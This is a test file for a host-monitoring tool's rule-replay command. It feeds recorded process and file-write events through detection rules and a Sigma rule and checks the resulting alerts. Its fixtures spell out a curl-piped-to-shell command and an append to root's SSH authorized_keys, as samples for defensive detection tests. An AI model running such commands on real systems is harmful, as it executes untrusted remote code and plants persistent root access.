// `rules test` with the rule language: recorded NDJSON replayed through the shipped example rules and a
// Sigma rule in rules.d, process context rebuilt from the replayed process_start records.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { copyFileSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { BIN, REPO_ROOT, SHARED_CONFIGS } from './helpers/agent-process.js';

const EXAMPLE = readFileSync(join(SHARED_CONFIGS, 'config.example.toml'), 'utf8');
const SIGMA_ID = '6a1f2c10-0000-4000-8000-000000000001';
const base = { schema_version: 1, agent_id: 'rec', uid: 0, gid: 0, time: '2026-11-30T00:00:00.000000000Z' };
const start = (pid: number, ppid: number, exe: string, argv: string[], extra: Record<string, unknown>) => ({
  ...base, event_type: 'process_start', pid, tid: pid, ppid, comm: exe.split('/').pop(), exe_path: exe, filename: exe, filename_truncated: false,
  source: 'execve', argv, cwd: '/home/u', exec_id: `e-${pid}`, ...extra,
});
const writeTo = (pid: number, exe: string, path: string, ts: number) => ({
  ...base, event_type: 'file_write', pid, tid: pid, ppid: 1, comm: exe.split('/').pop(), exe_path: exe, resolved_path: path, fd: 3, count: 10,
  filename_truncated: false, path_resolved: true, alert: false, detection_type: null, exec_id: `e-${pid}`, timestamp_ns: ts,
});
const URL = 'http://127.0.0.1:8000/x';
const recorded = [
  start(200, 1, '/usr/bin/dash', ['/bin/sh', '-c', `curl -s ${URL} | sh`], { parent_exec_id: null, timestamp_ns: 1 }),
  // no parent_argv on the record: the parent's command line comes from the replayed sh process_start
  start(201, 200, '/usr/bin/curl', ['curl', '-s', URL], { parent_exec_id: 'e-200', timestamp_ns: 2 }),
  start(202, 200, '/usr/bin/curl', ['curl', '-o', '/tmp/x', URL], { parent_exec_id: 'e-1', parent_argv: ['/bin/sh', '-c', `curl -o /tmp/x ${URL}`], timestamp_ns: 3 }),
  start(203, 1, '/usr/bin/tee', ['tee', '-a', '/root/.ssh/authorized_keys'], { parent_exec_id: null, timestamp_ns: 4 }),
  writeTo(203, '/usr/bin/tee', '/root/.ssh/authorized_keys', 5),
  writeTo(204, '/usr/sbin/sshd', '/root/.ssh/authorized_keys', 6),
];

test('rules test: the shipped example rules and a Sigma rule in rules.d alert on recorded NDJSON', (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'rg-replay-rules-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  writeFileSync(join(dir, 'config.toml'), EXAMPLE);
  mkdirSync(join(dir, 'rules.d'));
  copyFileSync(join(REPO_ROOT, 'config', 'rules.d', 'rand-guard-examples.toml'), join(dir, 'rules.d', 'rand-guard-examples.toml'));
  copyFileSync(join(REPO_ROOT, 'test', 'fixtures', 'sigma', 'proc-download-pipe.yml'), join(dir, 'rules.d', 'sigma-download.yml'));
  writeFileSync(join(dir, 'events.ndjson'), recorded.map((r) => JSON.stringify(r)).join('\n') + '\n');
  const r = spawnSync(process.execPath, [BIN, 'rules', 'test', '--config', join(dir, 'config.toml'), '--events', join(dir, 'events.ndjson')], { encoding: 'utf8' });
  assert.equal(r.status, 0, r.stderr);
  const alerts = r.stdout.trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
  assert.deepEqual(alerts.map((a) => [a.rule_id, a.timestamp_ns]), [
    ['RG-EXEC-DOWNLOAD-PIPE-SHELL', 2],
    [SIGMA_ID, 2],
    ['RG-PERSIST-AUTHORIZED-KEYS', 5],
  ]);
  const [pipe, sigma, keys] = alerts as [Record<string, unknown>, Record<string, unknown>, Record<string, unknown>];
  assert.equal(pipe.summary, `/usr/bin/curl (pid 201, uid 0) run by: /bin/sh -c curl -s ${URL} | sh`);
  assert.deepEqual(pipe.parent_argv, ['/bin/sh', '-c', `curl -s ${URL} | sh`]);
  assert.equal(pipe.parent_exec_id, 'e-200');
  assert.equal(sigma.rule_name, 'Downloader piped into a shell');
  assert.equal(sigma.rule_type, 'condition');
  // the file_write carries no argv: the acting image's command line comes from its replayed process_start
  assert.deepEqual(keys.argv, ['tee', '-a', '/root/.ssh/authorized_keys']);
  assert.equal(keys.summary, '/usr/bin/tee (pid 203, uid 0) changed /root/.ssh/authorized_keys; command line: tee -a /root/.ssh/authorized_keys');
  assert.equal(keys.cwd, '/home/u');
  assert.match(r.stderr, /replayed 6 records .*: 3 alerts/);
});
